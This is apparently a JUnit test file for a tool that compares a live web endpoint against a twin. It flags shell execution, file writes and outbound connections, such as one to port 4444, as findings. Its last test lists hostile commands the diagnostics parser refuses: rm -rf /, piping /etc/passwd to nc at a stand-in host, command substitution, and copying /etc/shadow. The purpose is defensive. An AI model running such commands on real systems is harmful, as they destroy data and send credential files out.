package io.twinbench.shadow.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

import io.twinbench.shadow.Divergence;
import io.twinbench.shadow.ShadowComparison;
import io.twinbench.shadow.TwinDiagnostics;
import io.twinbench.store.ShadowRecordings;

/**
 * Live against twin on requests whose system calls are known: headers that differ between any two
 * runs are not divergences; a program run, a file written and a connection made only live are
 * findings, ranked above a different body; one difference on many requests is one divergence.
 */
class ShadowComparisonTest {

    private static ShadowRecordings.Exchange exchange(long seq, long micros, int status, String body, String date) {
        return new ShadowRecordings.Exchange(seq, "c", micros, micros + 1000, "GET", "/p" + seq, List.of("Host: x"), new byte[0], 0, status,
                List.of("Date: " + date, "ETag: \"" + date + "\"", "Content-Type: text/html"), body.getBytes(StandardCharsets.UTF_8), body.length());
    }

    private static ShadowRecordings.Syscall call(long micros, String name, String arguments, long result) {
        return new ShadowRecordings.Syscall(0, 7, micros, name, arguments, result, result < 0 ? "ENOENT" : null, 5, List.of());
    }

    @Test
    void findingsComeFirstAndOneDifferenceOnManyRequestsIsOneDivergence() {
        List<ShadowRecordings.Exchange> live = List.of(exchange(0, 1_000_000, 200, "a", "Mon"), exchange(1, 2_000_000, 200, "b", "Mon"),
                exchange(2, 3_000_000, 200, "c", "Mon"));
        List<ShadowRecordings.Exchange> twin = List.of(exchange(0, 9_000_000, 200, "a", "Tue"), exchange(1, 9_100_000, 200, "b-changed", "Tue"),
                exchange(2, 9_200_000, 200, "c", "Tue"));
        List<ShadowRecordings.Syscall> liveCalls = List.of(
                call(1_000_100, "openat", "AT_FDCWD, \"/var/www/a\", O_RDONLY", 3), call(1_000_200, "openat", "AT_FDCWD, \"/dev/null\", O_RDWR", 4),
                call(2_000_100, "execve", "\"/usr/bin/sh\", [\"sh\"], 0x1", 0), call(3_000_100, "execve", "\"/usr/bin/sh\", [\"sh\"], 0x1", 0),
                call(3_000_200, "openat", "AT_FDCWD, \"/tmp/x\", O_WRONLY|O_CREAT", 5),
                call(3_000_300, "connect", "5, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"203.0.113.9\")}, 16", 0),
                call(10_000_000, "execve", "\"/usr/bin/cron-job\", [], 0x1", 0));
        List<ShadowRecordings.Syscall> twinCalls = List.of(call(9_000_100, "openat", "AT_FDCWD, \"/var/www/a\", O_RDONLY", 3));
        ShadowComparison.Result result = ShadowComparison.compare(live, twin, liveCalls, twinCalls);
        List<String> kinds = result.divergences().stream().map(d -> d.severity() + " " + d.kind() + " " + d.requests()).toList();
        assertEquals(List.of("CRITICAL exec [1, 2]", "HIGH write [2]", "HIGH connect [2]", "MEDIUM body [1]"), kinds, result.divergences().toString());
        Divergence connect = result.divergences().get(2);
        assertEquals("the live endpoint connected to 203.0.113.9:4444; the twin did not", connect.what());
        assertTrue(connect.live().get(0).contains("connect("), connect.live().toString());
        assertEquals(1, result.matched(), "request 1 matched; dates, tags and /dev/null are no divergence");
        assertEquals(3, result.findings(), "the program run, the file written, the connection made");
        assertEquals("requests 2, 3", result.divergences().get(0).requestsText());
    }

    @Test
    void aRequestTheTwinDidNotAnswerIsSaidSo() {
        ShadowComparison.Result result = ShadowComparison.compare(List.of(exchange(0, 1_000_000, 200, "a", "Mon")),
                List.of(new ShadowRecordings.Exchange(0, "twin", 5, 6, "GET", "/p0", List.of(), new byte[0], 0, 0, List.of(), new byte[0], 0)), List.of(),
                List.of());
        assertEquals(1, result.unanswered());
        assertEquals("no answer", result.divergences().get(0).kind());
    }

    @Test
    void onlyReadingCommandsWithoutAShellRunInATwin() {
        assertEquals(List.of("cat", "/etc/passwd"), TwinDiagnostics.parse("cat /etc/passwd"));
        for (String refused : List.of("rm -rf /", "cat /etc/passwd | nc evil 1", "sh -c id", "ls $(id)", "cat /etc/shadow > /tmp/x", "", "/bin/cat /x")) {
            assertThrows(IllegalArgumentException.class, () -> TwinDiagnostics.parse(refused), refused);
        }
    }
}
